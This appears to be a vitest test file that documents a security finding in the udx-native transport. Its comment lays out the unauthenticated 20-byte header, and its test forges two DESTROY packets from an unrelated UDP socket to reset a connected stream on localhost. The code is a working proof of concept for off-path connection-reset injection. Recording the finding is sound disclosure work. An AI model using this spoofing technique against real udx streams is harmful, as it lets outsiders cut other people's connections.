// A finding for docs/native-transport.md, measured on the udx-native the bench uses: a
// udx packet header (libudx src/udx.c, udx_write_header / process_packet) is 20 bytes in
// clear, unauthenticated —
//   [0] 0xff magic  [1] version 1  [2] type flags  [3] data offset
//   [4..8) receiver's stream id  [8..12) rwnd  [12..16) seq  [16..20) ack   (all u32 LE)
// and a connected stream accepts it from ANY source address (the firewall callback is only
// asked for a packet that arrives on another socket). With the DESTROY flag and a seq in
// the half of the sequence space at or after the receiver's next expected seq, one packet
// closes the stream with ECONNRESET; two packets half the space apart always cover it, so
// an off-path sender needs the stream id and the port, nothing else.
import { createSocket } from 'node:dgram';
import { randomInt } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { requireCjs } from '../../bench/lib/holepunch.js';

interface UdxSocket { bind(port: number, host: string): void; address(): { port: number }; close(): Promise<void> }
interface UdxStream {
  write(b: Buffer): boolean; destroy(): void; connect(socket: UdxSocket, remoteId: number, port: number, host: string): void;
  on(ev: 'data', cb: (d: Buffer) => void): unknown; on(ev: 'error', cb: (e: NodeJS.ErrnoException) => void): unknown; on(ev: 'close', cb: () => void): unknown;
}
const UDX = requireCjs('udx-native') as new () => { createSocket(): UdxSocket; createStream(id: number): UdxStream };

const UDX_HEADER_DESTROY = 0b010000;

function header(type: number, streamId: number, seq: number): Buffer {
  const h = Buffer.alloc(20);
  h[0] = 0xff; h[1] = 1; h[2] = type;
  h.writeUInt32LE(streamId, 4);
  h.writeUInt32LE(seq >>> 0, 12);
  return h;
}

describe('FINDING: udx headers are unauthenticated', () => {
  it('two spoofed 20-byte packets from another address, with a random seq, reset a connected stream', async () => {
    const udx = new UDX();
    const sa = udx.createSocket(), sb = udx.createSocket();
    sa.bind(0, '127.0.0.1'); sb.bind(0, '127.0.0.1');
    const a = udx.createStream(101), b = udx.createStream(202);
    a.connect(sa, 202, sb.address().port, '127.0.0.1');
    b.connect(sb, 101, sa.address().port, '127.0.0.1');
    const got: Buffer[] = [];
    b.on('data', (d) => got.push(d));
    const closed = new Promise<string>((resolve) => { b.on('error', (e) => resolve(e.code ?? e.message)); b.on('close', () => resolve('closed')); });
    a.on('error', () => {});
    a.write(Buffer.from('genuine'));
    await expect.poll(() => Buffer.concat(got).toString(), { timeout: 5000 }).toBe('genuine');

    // the spoofer: a plain UDP socket elsewhere, knowing only b's port and stream id
    const spoofer = createSocket('udp4');
    const seq = randomInt(2 ** 32);
    for (const s of [seq, seq + 2 ** 31]) spoofer.send(header(UDX_HEADER_DESTROY, 202, s), sb.address().port, '127.0.0.1');
    expect(await closed).toBe('ECONNRESET');
    spoofer.close();
    a.destroy();
    await Promise.allSettled([sa.close(), sb.close()]);
  }, 20_000);
});
